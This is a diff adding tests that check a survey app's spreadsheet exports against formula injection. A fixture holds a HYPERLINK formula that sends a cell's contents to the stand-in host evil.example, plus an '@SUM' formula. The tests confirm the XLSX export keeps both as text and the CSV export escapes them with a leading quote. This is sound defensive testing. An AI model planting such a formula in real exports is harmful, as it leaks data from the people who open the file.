@@ -136,3 +136,56 @@ def test_csv_export_same_query_count_for_1_and_20_responses(staff_client):
     for i in range(19):
         add_response(f"B{chr(65 + i)}")
     assert export_queries() == (queries_for_one, 21)
+
+
+HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A2,"Open the report")'
+
+
+@pytest.fixture
+def hostile_answers():
+    """A delegate's answers that a spreadsheet would run as formulas, and a negative number."""
+    s = small_survey()
+    s.number.min_value = -10
+    s.number.save()
+    ph = delegation("PH", "asia")
+    services.save_answers(
+        survey=s.survey,
+        member_state=ph.state,
+        values={
+            **complete_values(s),
+            s.conditional.pk: "@SUM(1+1)",
+            s.number.pk: "-5",
+            s.long_text.pk: HYPERLINK,
+        },
+        expected_version=0,
+        actor=ph.contributor,
+        coerce=True,
+    )
+    return s
+
+
+def test_xlsx_export_answer_formula_is_a_string_cell(staff_client, hostile_answers):
+    s = hostile_answers
+    response = staff_client.get(reverse("surveys:xlsx", args=[s.survey.pk]))
+    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
+    headers = [cell.value for cell in sheet[1]]
+    row = dict(zip(headers, sheet[2], strict=True))
+    answer = row[f"Q8. {s.long_text.text_en}"]
+    assert (answer.data_type, answer.value) == ("s", HYPERLINK)
+    assert (
+        row[f"Q3. {s.conditional.text_en}"].data_type,
+        row[f"Q3. {s.conditional.text_en}"].value,
+    ) == ("s", "@SUM(1+1)")
+    number = row[f"Q7. {s.number.text_en}"]
+    assert (number.data_type, number.value) == ("n", -5)
+
+
+def test_csv_export_answer_formula_prefixed_number_unchanged(staff_client, hostile_answers):
+    s = hostile_answers
+    response = staff_client.get(reverse("surveys:csv", args=[s.survey.pk]))
+    body = b"".join(response.streaming_content)
+    frame = pandas.read_csv(io.BytesIO(body), encoding="utf-8-sig", keep_default_na=False)
+    ph = frame.iloc[0]
+    assert ph[f"Q8. {s.long_text.text_en}"] == "'" + HYPERLINK
+    assert ph[f"Q3. {s.conditional.text_en}"] == "'@SUM(1+1)"
+    assert ph[f"Q7. {s.number.text_en}"] == -5
